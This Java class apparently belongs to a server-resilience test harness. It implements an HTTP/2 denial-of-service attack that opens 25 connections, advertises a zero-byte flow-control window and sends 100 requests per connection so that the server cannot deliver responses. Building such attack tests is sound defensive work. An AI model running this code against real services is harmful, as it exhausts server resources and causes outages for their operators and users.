package dev.leantokens.attacks;

import java.io.OutputStream;

import dev.leantokens.testing.RawHttp;
import dev.leantokens.testing.RawHttp2;

/** Sends HTTP/2 requests with windows of 0 bytes, so that no answer can be sent. */
final class ClosedWindows implements Attack {

    private static final int CONNECTIONS = 25;
    private static final int STREAMS = 100;

    @Override
    public void start(Attacker attacker) {
        attacker.keepTalking(CONNECTIONS, RawHttp.ELSEWHERE, attacker.target().port(), socket -> {
            OutputStream out = socket.getOutputStream();
            out.write(new RawHttp2().preface(0).bytes());
            for (int i = 0; i < STREAMS; i++) {
                out.write(new RawHttp2().get(2 * i + 1, "/q/metrics").bytes());
                attacker.outcomes().sent(1);
            }
            // Reads all frames without the body of an answer until the connection is closed.
            socket.getInputStream().readAllBytes();
            attacker.outcomes().got("closed");
        });
    }
}
